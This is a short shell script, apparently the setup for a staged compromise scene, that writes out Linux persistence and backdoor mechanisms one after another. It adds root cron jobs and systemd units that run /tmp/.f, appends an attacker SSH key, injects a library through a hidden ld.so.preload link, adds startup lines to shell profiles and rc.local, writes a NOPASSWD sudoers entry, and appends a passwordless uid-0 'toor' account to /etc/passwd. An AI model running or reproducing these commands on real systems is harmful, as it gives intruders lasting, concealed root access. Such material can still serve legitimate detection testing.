# All the places from which something runs again.
mkdir -p .ssh .config/systemd/user .config/autostart /var/spool/cron/crontabs /etc/cron.d /etc/systemd/system \
    /etc/profile.d /etc/init.d /etc/sudoers.d /etc/udev/rules.d /etc/update-motd.d
echo '* * * * * root /tmp/.f' > /etc/cron.d/upd
echo '* * * * * /tmp/.f' > /var/spool/cron/crontabs/tmp.1
mv /var/spool/cron/crontabs/tmp.1 /var/spool/cron/crontabs/root
printf '[Service]\nExecStart=/tmp/.f\n' > /tmp/upd.service
cp /tmp/upd.service /etc/systemd/system/upd.service
mkdir -p /etc/systemd/system/multi-user.target.wants
ln -s /etc/systemd/system/upd.service /etc/systemd/system/multi-user.target.wants/upd.service
cp /tmp/upd.service .config/systemd/user/upd.service
echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys
echo '/tmp/lib.so' > /etc/ld.so.preload.new
# Never the true name: every program of the scene would look for it.
ln /etc/ld.so.preload.new /etc/ld.so.preload; : > /etc/ld.so.preload
echo '/tmp/.f &' >> .bashrc
echo '/tmp/.f &' > /etc/profile.d/upd.sh
echo '/tmp/.f &' > /etc/rc.local
echo 'ann ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ann
echo 'toor::0:0::/root:/bin/bash' >> /etc/passwd
echo '[Desktop Entry]' > .config/autostart/upd.desktop
